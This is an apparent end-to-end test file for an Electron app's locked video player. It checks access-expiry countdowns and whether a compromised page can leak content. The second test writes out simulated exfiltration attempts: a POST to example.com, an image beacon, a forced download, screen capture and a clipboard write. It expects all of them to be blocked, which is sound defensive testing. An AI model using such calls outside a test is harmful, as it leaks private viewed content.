import { readdirSync } from 'node:fs';
import type { Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Gateway } from '../../main/gateway/client.ts';
import { type App, launchApp, signIn } from '../support/app.ts';
import { type Desktop, startDesktop } from '../support/desktop.ts';
import { startGateway, type TestGateway } from '../support/gateway.ts';
import { untilItPlays } from '../support/main-job.ts';
import { numberedVideo } from '../support/numbered-video.ts';
import { addRecording, grant, personAt } from '../support/people.ts';
import { until } from '../support/processes.ts';
import { leaveBy, watch } from '../support/viewings.ts';

let desktop: Desktop;
let gateway: TestGateway;
let asker: Gateway;
let approver: Gateway;
let app: App;

beforeAll(async () => {
  [desktop, gateway] = await Promise.all([startDesktop(), startGateway()]);
  const folder = await numberedVideo({ seconds: 60, framesPerSecond: 10, segmentSeconds: 2, width: 640, height: 360 });
  for (const id of ['five', 'one', 'sealed']) await addRecording(gateway, id, folder, 60_000);
  [asker, approver] = await Promise.all([personAt(gateway, 'marta.reis'), personAt(gateway, 'paulo.nunes')]);
  app = await launchApp(desktop, { userData: 'marta', gateway: gateway.url });
  await signIn(app, 'marta.reis');
});
afterAll(async () => {
  await app?.close();
  await gateway?.remove();
  await desktop?.stop();
});

describe('before access ends', () => {
  it.each([
    ['five', 303_000, 'Your access ends in 5 minutes.', 'soon'],
    ['one', 66_000, 'Your access ends in 1 minute.', 'last'],
  ] as const)('it is said at %s minutes, and the countdown is coloured', async (id, windowMs, words, level) => {
    await grant(asker, approver, { sessionId: id, windowMs });
    const player = await watch(app, id);
    await untilItPlays(player, 0.3);
    await player.getByText(words, { exact: true }).waitFor();
    const timer = player.getByRole('timer', { name: 'Access ends' });
    expect(await timer.getAttribute('data-level')).toBe(level);
    await leaveBy(player, 'Back to Remote Sessions');
  });
});

describe('there is no other way out of the player than its snapshot', () => {
  let player: Page;
  beforeAll(async () => {
    await grant(asker, approver, { sessionId: 'sealed', windowMs: 3_600_000 });
    player = await watch(app, 'sealed');
    await untilItPlays(player, 0.5);
  });

  it('no menu of the browser, no picture in picture, nothing to drag', async () => {
    const shown = await player.evaluate(() => {
      const video = document.querySelector('video');
      const menu = new MouseEvent('contextmenu', { bubbles: true, cancelable: true });
      video?.dispatchEvent(menu);
      const drag = new Event('dragstart', { bubbles: true, cancelable: true });
      video?.dispatchEvent(drag);
      return {
        menu: menu.defaultPrevented,
        drag: drag.defaultPrevented,
        controls: video?.controls,
        pictureInPicture: video?.disablePictureInPicture,
        remote: video?.disableRemotePlayback,
      };
    });
    expect(shown).toEqual({ menu: true, drag: true, controls: false, pictureInPicture: true, remote: true });
    const refused = await player.evaluate(() =>
      document
        .querySelector('video')
        ?.requestPictureInPicture()
        .then(
          () => 'opened',
          () => 'refused',
        ),
    );
    expect(refused).toBe('refused');
  });

  it('a page that was taken over saves, opens, sends and captures nothing', async () => {
    const home = () =>
      readdirSync(`${desktop.folder}/home`, { recursive: true })
        .map(String)
        .filter((file) => /\.(png|webm|mp4|m4s|txt)$/.test(file));
    const before = home();
    const windows = app.electron.windows().length;
    const seen = await player.evaluate(async () => {
      const outcome = (asked: Promise<unknown>) =>
        Promise.race([
          asked.then(
            () => 'done',
            () => 'refused',
          ),
          new Promise((resolve) => setTimeout(resolve, 3_000, 'refused')),
        ]);
      const link = document.createElement('a');
      link.href = URL.createObjectURL(new Blob(['what was seen']));
      link.download = 'seen.txt';
      link.click();
      return {
        opened: window.open('https://example.com/'),
        sent: await outcome(fetch('https://example.com/', { method: 'POST', body: 'what was seen', mode: 'no-cors' })),
        beacon: await outcome(
          new Promise((resolve, reject) => {
            const image = new Image();
            image.onload = resolve;
            image.onerror = reject;
            image.src = 'http://127.0.0.1:9/seen.png';
          }),
        ),
        screen: await outcome(navigator.mediaDevices?.getDisplayMedia({ video: true }) ?? Promise.reject(new Error('none'))),
        clipboard: await outcome(navigator.clipboard?.writeText('what was seen') ?? Promise.reject(new Error('none'))),
        picker:
          typeof (window as { showSaveFilePicker?: unknown }).showSaveFilePicker === 'function'
            ? await outcome((window as unknown as { showSaveFilePicker(): Promise<unknown> }).showSaveFilePicker())
            : 'refused',
      };
    });
    expect(seen).toEqual({
      opened: null,
      sent: 'refused',
      beacon: 'refused',
      screen: 'refused',
      clipboard: 'refused',
      picker: 'refused',
    });
    await until('a moment to pass', async () => {
      await untilItPlays(player, 0.5);
      return true;
    });
    expect(home()).toEqual(before);
    expect(app.electron.windows()).toHaveLength(windows);
  });
});
